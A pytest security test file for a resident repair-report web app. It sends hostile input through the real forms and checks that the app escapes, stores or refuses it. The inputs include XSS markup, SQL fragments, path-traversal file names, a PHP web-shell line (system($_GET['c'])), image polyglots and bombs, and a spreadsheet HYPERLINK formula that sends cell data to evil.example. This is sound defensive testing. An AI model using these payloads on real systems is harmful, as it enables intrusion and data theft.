"""A corpus of hostile input sent through the real forms — markup and event handlers,
`javascript:` links, SQL fragments, 1 MB strings, NUL bytes, invalid UTF-8, path traversal in
photo names, image polyglots, decompression bombs — and what must hold afterwards: every page
and export shows it as text (escaped), files land under random names in the upload folder
only, and a refusal is a 4xx with a message, never a 500."""

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from functools import partial
from pathlib import Path

import pytest
from markupsafe import escape
from PIL import Image
from sqlalchemy import func, select

from tests.conftest import csrf_from, jpeg_bytes, login, png_header_bomb
from tests.security.helpers import (
    MARKUP,
    SQL,
    STORED_NAME,
    assert_answered,
    assert_escaped,
    assert_no_half_records,
    file_report,
    files_under,
    gif_js_polyglot,
    gif_with_script_comment,
    image_bytes,
    injected_elements,
    jpeg_segments,
    jpeg_with_appended_html,
    jpeg_with_html_comment,
    large_jpeg,
    png_with_text_comment,
    reports_folder,
    resolve,
    row_counts,
    staff,
    staff_act,
    svg_bytes,
    traversal_names,
)
from tests.web.helpers import open_report_form, report_fields
from webapp.domain import unit_of_work
from webapp.domain.reports.privacy import mask
from webapp.domain.services import booking
from webapp.domain.shared import tokens
from webapp.extensions import db
from webapp.models import Booking, Report, ReportPhoto

EN = {"Accept-Language": "en"}
MB = 1024 * 1024


def post_report(client, token, files=(), **changes):
    fields = report_fields(open_report_form(client, token), **changes)
    if files:
        fields["photos"] = list(files)
    return client.post(f"/q/{token}/report", data=fields, headers=EN,
                       content_type="multipart/form-data")


def latest_report() -> Report:
    db.session.rollback()
    return db.session.scalars(select(Report).order_by(Report.id.desc())).first()


def tracking_post(client, link, path, **fields):
    csrf = csrf_from(client.get(link).get_data(as_text=True))
    return client.post(f"{link}/{path}", data={"csrf_token": csrf, **fields}, headers=EN,
                       content_type="multipart/form-data")


# --- markup is text on every page that shows it ----------------------------------------------

@pytest.mark.parametrize("offset", [0, 2, 4])
def test_markup_from_residents_and_staff_is_shown_as_text(app, client, entrance_code,
                                                          upload_root, offset):
    """One report round the whole loop, every free-text field carrying markup (a marker says
    which field), then every page that shows those fields. The long fields carry the whole
    list; the two short ones (40 characters) one item each, a different one each run."""
    every = "".join(MARKUP)
    marks = {"description": "d", "info": "i", "internal": "x", "reply": "p", "resolved": "r",
             "reason": "o", "resolved2": "s", "comment": "c"}
    typed = {name: f"{every}#{mark}" for name, mark in marks.items()}
    typed["floor_room"] = f"{MARKUP[offset % 5]}#f"
    typed["contact_name"] = f"{MARKUP[(offset + 1) % 5]}#n"
    response = post_report(client, entrance_code.token, description=typed["description"],
                           floor_room=typed["floor_room"], contact_name=typed["contact_name"])
    assert response.status_code == 303
    link = response.headers["Location"]
    report = latest_report()
    assert report.description == typed["description"]  # stored as typed, not mangled
    assert tracking_post(client, link, "info", note=typed["info"]).status_code == 303

    staff_client = app.test_client()
    login(staff_client, "dispatcher")
    assert staff_act(staff_client, report, "internal_note", note=typed["internal"]).status_code \
        == 303
    assert staff_act(staff_client, report, "public_reply", text=typed["reply"]).status_code == 303
    assert staff_act(staff_client, report, "assign", org=str(report.compound.partner_org_id),
                     person=str(staff("mateng").id)).status_code == 303
    handler = app.test_client()
    login(handler, "mateng")
    for action, note in (("accept", None), ("arrive", None), ("resolve", typed["resolved"])):
        assert staff_act(handler, report, action, **({"note": note} if note else {})) \
            .status_code == 303, action
    assert tracking_post(client, link, "not-fixed", reason=typed["reason"]).status_code == 303
    for action, note in (("accept", None), ("arrive", None), ("resolve", typed["resolved2"])):
        assert staff_act(handler, report, action, **({"note": note} if note else {})) \
            .status_code == 303, action
    assert tracking_post(client, link, "confirm", rating="2",
                         comment=typed["comment"]).status_code == 303

    public = ("description", "info", "reply", "resolved", "reason", "resolved2", "comment")
    tracking = client.get(link, headers=EN).get_data(as_text=True)
    for name in (*public, "floor_room", "contact_name"):
        assert_escaped(tracking, typed[name], where=f"tracking page ({name})")
    assert typed["internal"] not in tracking and str(escape(typed["internal"])) not in tracking

    page = staff_client.get(f"/staff/reports/{report.id}", headers=EN).get_data(as_text=True)
    for name in (*public, "floor_room", "contact_name", "internal"):
        assert_escaped(page, typed[name], where=f"staff report page ({name})")
    queue = staff_client.get("/staff/queue?tab=all", headers=EN).get_data(as_text=True)
    assert not injected_elements(queue)  # the queue shows the description cut at 60
    assert str(escape(typed["description"][:28])) in queue
    jobs = handler.get("/staff/jobs", headers=EN).get_data(as_text=True)
    assert not injected_elements(jobs)

    board = client.get("/board/", headers=EN).get_data(as_text=True)
    own = [typed["contact_name"], None, typed["floor_room"]]  # masked where they recur
    for name in ("reply", "resolved", "resolved2"):  # what the board shows of a report
        assert_escaped(board, mask(typed[name], own), where=f"board ({name})")
    for name in ("description", "floor_room", "contact_name", "internal", "comment"):
        assert str(escape(typed[name])) not in board, f"{name} is on the public board"

    answer = staff_client.get("/staff/export.csv?tab=all")
    export = answer.get_data(as_text=True)
    assert report.number in export
    # The export carries the description as typed (issue 15): plain text in a file that is
    # downloaded, never shown by the browser as a page.
    assert answer.mimetype == "text/csv" and answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Disposition"].startswith("attachment")
    for name in ("floor_room", "contact_name", "internal", "comment"):  # still not in it
        assert typed[name] not in export, name
    assert_no_half_records(upload_root)


@pytest.mark.parametrize("markup", MARKUP[:3])
def test_markup_kept_in_a_refused_form_is_escaped(client, entrance_code, markup):
    """A 422 gives the form back with what was typed: inside <textarea> and value="…"."""
    response = post_report(client, entrance_code.token, description=markup,
                           floor_room=markup[:40], contact_name=markup[:40],
                           contact_phone="not a phone")
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert_escaped(html, markup, where="report form 422")

    report, link = file_report(entrance_code)
    response = tracking_post(client, link, "info", note=markup + "x" * 1000)
    assert response.status_code == 422
    assert not injected_elements(response.get_data(as_text=True))
    resolve(report)
    for path, fields in (("confirm", {"rating": "9", "comment": markup}),
                         ("not-fixed", {"reason": markup + "x" * 1000})):
        response = tracking_post(client, link, path, **fields)
        assert response.status_code == 422, path
        assert not injected_elements(response.get_data(as_text=True)), path


def test_markup_in_a_booking_is_shown_as_text(app, client, entrance_code, roomy, upload_root):
    markup = MARKUP[0]
    url = f"/q/{entrance_code.token}/slots/{roomy.id}/book"
    page = client.get(url).get_data(as_text=True)
    fields = {"csrf_token": csrf_from(page), "submission_key": tokens.new_submission_key(),
              "name": f"{markup}#n"[:40], "phone": "13811112222",
              "floor_room": "4楼\r\nATTENDEE:mailto:evil@example.com", "note": f"{markup}#note"}
    response = client.post(url, data=fields, headers=EN)
    assert response.status_code == 303
    link = response.headers["Location"]
    made = db.session.scalars(select(Booking)).one()
    assert made.name == fields["name"] and made.note == fields["note"]

    html = client.get(link, headers=EN).get_data(as_text=True)
    assert_escaped(html, fields["name"], where="booking page (name)")
    ics = client.get(f"{link}/calendar.ics").get_data(as_text=True)
    assert not re.search(r"^ATTENDEE", ics, re.M), "a new line in the room made a new property"

    volunteer = app.test_client()
    login(volunteer, "xiaowang")
    with unit_of_work():
        booking.sign_up(db.session.get(type(roomy), roomy.id), staff("xiaowang"))
    home = volunteer.get("/volunteer/", headers=EN).get_data(as_text=True)
    assert_escaped(home, fields["name"], where="volunteer home (name)")
    assert_escaped(home, fields["note"], where="volunteer home (note)")

    response = client.post(f"{link}/cancel", data={"csrf_token": csrf_from(html),
                                                   "reason": f"{markup}#cancel"}, headers=EN)
    assert response.status_code == 303
    html = client.get(link, headers=EN).get_data(as_text=True)
    assert not injected_elements(html)
    assert_no_half_records(upload_root)


def test_markup_in_the_open311_answers_stays_text(client, entrance_code):
    """The description is public through Open311: XML stays well-formed, JSON parses, both
    give back exactly what was stored."""
    description = "<script>alert(1)</script> & \x1b\x07 ]]> <![CDATA[x]]> \u2028 漏水"
    report, _link = file_report(entrance_code, description=description)
    community = report.community.code
    xml = client.get(f"/open311/v2/requests.xml?jurisdiction_id={community}")
    assert xml.status_code == 200
    root = ET.fromstring(xml.data)
    texts = [e.text or "" for e in root.iter("description")]
    assert any("<script>alert(1)</script> & " in t for t in texts)
    assert b"<script>" not in xml.data
    body = client.get(f"/open311/v2/requests.json?jurisdiction_id={community}")
    assert any(r.get("description") == description for r in json.loads(body.data))


# --- SQL fragments are data ----------------------------------------------------------------

def test_sql_fragments_are_stored_as_typed(app, client, entrance_code, upload_root):
    before = row_counts()["Report"]
    for fragment in SQL:
        response = post_report(client, entrance_code.token, description=fragment,
                               contact_name=fragment[:40], floor_room=fragment[:40])
        assert response.status_code == 303, fragment
        report = latest_report()
        assert (report.description, report.contact_name) == (fragment, fragment[:40])
        page = client.get(response.headers["Location"]).get_data(as_text=True)
        assert str(escape(fragment)) in page
    assert row_counts()["Report"] == before + len(SQL)
    staff_client = app.test_client()
    login(staff_client, "dispatcher")
    report = latest_report()
    for fragment in SQL:
        response = staff_act(staff_client, report, "merge", original=fragment)
        assert response.status_code == 409  # no such report number, nothing merged
        assert staff_client.get(f"/staff/queue?status={fragment}&tab={fragment}").status_code \
            == 200
        assert client.get(f"/board/?month={fragment}&community={fragment}").status_code == 200
    assert db.session.scalar(select(func.count(Report.id))) == before + len(SQL)
    assert_no_half_records(upload_root)


# --- 1 MB, NUL and invalid UTF-8 -----------------------------------------------------------

def test_a_megabyte_in_every_text_field_is_refused_with_a_message(app, client, entrance_code,
                                                                  roomy, upload_root):
    """Werkzeug refuses a form field over 500 kB with a 413 before any form sees it; a long
    text under that is the form's 422. Either way a message, and nothing stored."""
    before = row_counts()
    report, link = file_report(entrance_code)
    resolve(report)
    url = f"/q/{entrance_code.token}/slots/{roomy.id}/book"
    def send(form, name, big):
        if form == "report":
            return post_report(client, entrance_code.token, **{name: big})
        if form == "booking":
            return client.post(url, headers=EN, data={
                "csrf_token": csrf_from(client.get(url).text),
                "submission_key": tokens.new_submission_key(), "name": "赵奶奶",
                "phone": "13811112222", name: big})
        return tracking_post(client, link, form, **{"rating": "5", name: big})

    cases = [("report", "description", "漏" * MB), ("info", "note", "x" * MB),
             ("booking", "note", "漏" * MB)]
    cases += [(form, name, "x" * 100_000) for form, name in (
        ("report", "description"), ("report", "floor_room"), ("report", "contact_name"),
        ("report", "contact_phone"), ("info", "note"), ("confirm", "comment"),
        ("not-fixed", "reason"), ("booking", "name"), ("booking", "phone"),
        ("booking", "floor_room"), ("booking", "note"))]
    for form, name, big in cases:
        response = send(form, name, big)
        assert response.status_code in (413, 422), (form, name, len(big))
        assert_answered(response)
    after = row_counts()
    assert (after["Report"], after["Booking"]) == (before["Report"] + 1, before["Booking"])
    db.session.refresh(report)
    assert report.status == "resolved" and len(report.events) == 5

    staff_client = app.test_client()
    login(staff_client, "dispatcher")
    assert staff_act(staff_client, report, "internal_note", note="x" * 100_000).status_code \
        == 303
    db.session.refresh(report)
    assert all(len(e.note or "") <= 2000 for e in report.events)
    assert_no_half_records(upload_root)


def test_nul_bytes_are_dropped_from_what_is_stored(app, client, entrance_code, roomy,
                                                   upload_root):
    response = post_report(client, entrance_code.token, description="漏\x00水\x00了\x00两天",
                           contact_name="\x00\x00", floor_room="2\x00楼",
                           contact_phone="138\x000013\x008000")
    assert response.status_code == 303
    report = latest_report()
    assert (report.description, report.contact_name, report.floor_room) == \
        ("漏水了两天", None, "2楼")
    assert report.contact_phone == "13800138000"
    report, link = file_report(entrance_code)
    assert tracking_post(client, link, "info", note="\x00晚上\x00").status_code == 303
    assert tracking_post(client, link, "info", note="\x00\x00").status_code == 422
    resolve(report)
    assert tracking_post(client, link, "not-fixed", reason="\x00").status_code == 422
    assert tracking_post(client, link, "not-fixed", reason="还\x00漏").status_code == 303
    staff_client = app.test_client()
    login(staff_client, "dispatcher")
    assert staff_act(staff_client, report, "internal_note", note="内\x00部").status_code == 303
    db.session.refresh(report)
    assert [e.note for e in report.events if e.note and e.kind in ("info_added", "reopened",
                                                                   "note")] == \
        ["晚上", "还漏", "内部"]
    url = f"/q/{entrance_code.token}/slots/{roomy.id}/book"
    response = client.post(url, headers=EN, data={
        "csrf_token": csrf_from(client.get(url).text), "phone": "13811112222",
        "submission_key": tokens.new_submission_key(), "name": "赵\x00奶奶",
        "note": "\x00", "floor_room": "\x004楼"})
    assert response.status_code == 303
    made = db.session.scalars(select(Booking)).one()
    assert (made.name, made.note, made.floor_room) == ("赵奶奶", None, "4楼")
    assert_no_half_records(upload_root)


def multipart(fields: list[tuple[bytes, bytes]], files=()) -> tuple[bytes, str]:
    """A multipart body built by hand, so that it can carry bytes no encoder would write."""
    boundary = b"----mashang-hostile-boundary"
    out = []
    for name, value in fields:
        out += [b"--" + boundary, b'Content-Disposition: form-data; name="' + name + b'"', b"",
                value]
    for name, filename, data in files:
        out += [b"--" + boundary, b'Content-Disposition: form-data; name="' + name +
                b'"; filename="' + filename + b'"', b"Content-Type: image/jpeg", b"", data]
    out += [b"--" + boundary + b"--", b""]
    return b"\r\n".join(out), f"multipart/form-data; boundary={boundary.decode()}"


INVALID_UTF8 = [b"\xff\xfe\xfd", b"\xc3\x28 \xa0\xa1", b"\xed\xa0\x80\xed\xbf\xbf",  # surrogates
                b"\xf4\x90\x80\x80", b"\xc0\xaf\xe0\x80\xaf", b"\xe6\xbc\x8f\xe6\xb0"]


def test_invalid_utf8_in_a_multipart_body(client, entrance_code, upload_root):
    for bad in INVALID_UTF8:
        hidden = open_report_form(client, entrance_code.token)
        body, content_type = multipart([
            (b"csrf_token", hidden["csrf_token"].encode()),
            (b"submission_key", hidden["submission_key"].encode()),
            (b"category", report_fields(hidden)["category"].encode()),
            (b"description", "水管漏水 ".encode() + bad + b" leak"),
            (b"contact_name", bad), (b"floor_room", b"2" + bad),
            (b"contact_phone", b"13800138000"),
        ], files=[(b"photos", b"p" + bad + b".jpg", jpeg_bytes((20, 20)))])
        response = client.post(f"/q/{entrance_code.token}/report", data=body,
                               content_type=content_type, headers=EN)
        assert_answered(response)
        if response.status_code == 303:
            report = latest_report()
            for text in (report.description, report.contact_name, report.floor_room):
                assert text is None or text.encode("utf-8")  # no lone surrogates
        # the same bytes in field names and where a number is expected
        body, content_type = multipart([
            (b"csrf_token", hidden["csrf_token"].encode()), (b"category" + bad, b"1"),
            (b"category", bad), (b"description" + bad, bad)])
        assert_answered(client.post(f"/q/{entrance_code.token}/report", data=body,
                                    content_type=content_type, headers=EN))
    assert_no_half_records(upload_root)


def test_invalid_utf8_in_a_urlencoded_body_and_in_urls(app, client, entrance_code,
                                                       upload_root):
    report, link = file_report(entrance_code)
    csrf = csrf_from(client.get(link).text)
    for raw in ("%FF%FE", "%C3%28", "%ED%A0%80", "%00", "%E6%BC"):
        response = client.post(f"{link}/info", data=f"csrf_token={csrf}&note={raw}x{raw}",
                               content_type="application/x-www-form-urlencoded", headers=EN)
        assert_answered(response)
        assert client.get(f"/t/{raw}").status_code == 404
        if raw != "%00":  # NUL in a code: test_wrong_types.py::test_a_nul_in_a_url
            assert client.get(f"/q/{raw}").status_code in (404, 410)
        assert client.get(f"/b/{raw}").status_code == 404
        assert client.get(f"/board/?month={raw}").status_code == 200
    staff_client = app.test_client()
    login(staff_client, "dispatcher")
    for raw in ("%FF", "%ED%A0%80", "%00"):
        assert staff_client.get(f"/staff/queue?status={raw}&tab={raw}&page={raw}").status_code \
            == 200
    assert_no_half_records(upload_root)


# --- photo names never reach the file system ---------------------------------------------

def test_photo_names_never_reach_the_file_system(client, entrance_code, upload_root, tmp_path):
    marker = "mashang-traversal-probe"
    names = traversal_names(marker, tmp_path)
    before = files_under(tmp_path)
    links = []
    for start in range(0, len(names), 3):
        batch = names[start:start + 3]
        response = post_report(client, entrance_code.token,
                               files=[(io.BytesIO(jpeg_bytes((40, 30))), name) for name in batch])
        assert response.status_code == 303, batch
        links.append(response.headers["Location"])
    # the same names on garbage: refused, and the message shows the name as text
    response = post_report(client, entrance_code.token,
                           files=[(io.BytesIO(b"<html>not a photo</html>"), names[7])])
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert not injected_elements(html) and str(escape(names[7][:60])) in html

    written = files_under(tmp_path) - before
    outside = {p for p in written if upload_root not in p.parents and "sqlite3" not in p.name}
    assert not outside, outside
    for path in written - outside:
        assert STORED_NAME.match(path.name) and path.parent == reports_folder(upload_root), path
    assert not [p for p in files_under(tmp_path.parent) if marker in p.name]
    for candidate in (Path("/tmp"), upload_root.parent.parent, Path.cwd(), Path.cwd().parent):
        assert not list(candidate.glob(f"*{marker}*")), candidate
    stored = db.session.scalars(select(ReportPhoto.stored_name)).all()
    assert stored and not any(marker in name for name in stored)
    for link in links:
        page = client.get(link).get_data(as_text=True)
        assert marker not in page and "passwd" not in page
    assert_no_half_records(upload_root)


# --- polyglots and bombs -------------------------------------------------------------------

def served_photo(client, link) -> bytes:
    db.session.rollback()
    report = latest_report()
    photo = report.photos[-1]
    response = client.get(f"{link}/photos/{photo.id}.jpg")
    assert response.status_code == 200 and response.mimetype == "image/jpeg"
    return response.data


@pytest.mark.parametrize("data", [jpeg_with_appended_html(), jpeg_with_html_comment(),
                                  gif_with_script_comment(), png_with_text_comment(),
                                  jpeg_bytes((40, 30), exif=True)],
                         ids=["jpeg+html", "jpeg-comment", "gif-comment", "png-text-comment",
                              "jpeg-exif-gps"])
def test_a_polyglot_photo_is_stored_as_a_plain_jpeg(client, entrance_code, upload_root, data):
    response = post_report(client, entrance_code.token,
                           files=[(io.BytesIO(data), "<svg onload=alert(1)>.html", "text/html")])
    assert response.status_code == 303
    served = served_photo(client, response.headers["Location"])
    assert served.startswith(b"\xff\xd8") and served.rstrip(b"\x00").endswith(b"\xff\xd9")
    assert b"<script" not in served and b"alert" not in served and b"<html" not in served
    with Image.open(io.BytesIO(served)) as image:
        assert image.format == "JPEG" and not image.info.get("comment")
    # JFIF, quantisation and Huffman tables, the frame: no comment (COM), no APP1…APP15
    assert set(jpeg_segments(served)) <= {0xE0, 0xDB, 0xC4, 0xC0, 0xC2, 0xDD}, \
        [hex(m) for m in jpeg_segments(served)]
    assert_no_half_records(upload_root)


@pytest.mark.parametrize("make, message", [
    (gif_js_polyglot, "not a photo we can read"),
    (svg_bytes, "not a photo we can read"),
    (lambda: b"<?php system($_GET['c']); ?>", "not a photo we can read"),
    (partial(image_bytes, "TIFF"), "Please send a JPG, PNG or WebP photo"),
    (png_header_bomb, "too many pixels"),
    (partial(png_header_bomb, 6000, 6000), "not a photo we can read"),
    (partial(png_header_bomb, 2**31 - 1, 2**31 - 1), "too many pixels"),
    (partial(large_jpeg, 6500, 6500), "too many pixels"),
    (partial(image_bytes, "PNG", (12_000, 12_000), mode="1"), "too many pixels"),
    (lambda: jpeg_bytes((64, 64))[:300], "not a photo we can read"),
    (lambda: b"", "empty"),
], ids=["gif-js", "svg", "php", "tiff", "png-bomb", "png-bomb-under-cap", "png-2**31",
        "jpeg-42mpx", "png-144mpx", "truncated-jpeg", "empty"])
def test_a_refused_photo_gets_a_message_and_stores_nothing(client, entrance_code, upload_root,
                                                           make, message):
    data = make()  # built here, not when the tests are collected
    before = row_counts()
    response = post_report(client, entrance_code.token,
                           files=[(io.BytesIO(data), "photo.jpg", "image/jpeg")])
    if message == "not a photo we can read" and response.status_code == 303:
        # a decoder may read it after all: then it must be a plain JPEG now
        served = served_photo(client, response.headers["Location"])
        assert b"alert" not in served and b"<?php" not in served
    else:
        assert response.status_code == 422
        assert message in response.get_data(as_text=True)
        assert row_counts() == before
    assert_no_half_records(upload_root)


def test_a_large_but_allowed_photo_is_scaled_down(app, client, entrance_code, upload_root):
    response = post_report(client, entrance_code.token,
                           files=[(io.BytesIO(large_jpeg(6000, 6000)), "big.jpg")])
    assert response.status_code == 303
    photo = latest_report().photos[0]
    edge = app.config["PHOTO_MAX_EDGE"]
    assert max(photo.width, photo.height) <= edge
    with Image.open(reports_folder(upload_root) / photo.stored_name) as image:
        assert max(image.size) <= edge
    assert_no_half_records(upload_root)


# --- the CSV export ------------------------------------------------------------------------

def test_the_export_neutralises_spreadsheet_formulas(app, client, entrance_code):
    admin = app.test_client()
    login(admin, "admin")
    compound = entrance_code.building.compound
    page = admin.get(f"/admin/places/{compound.id}").get_data(as_text=True)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
    response = admin.post(f"/admin/places/compound/{compound.id}/rename", data={
        "csrf_token": re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page).group(1),
        "name": formula})
    assert response.status_code == 303
    file_report(entrance_code)
    login(admin, "dispatcher")
    export = admin.get("/staff/export.csv?tab=all").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(export.lstrip("\ufeff"))))
    assert any(formula in cell for row in rows for cell in row)  # the name is exported
    risky = [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@")]
    assert not risky, risky
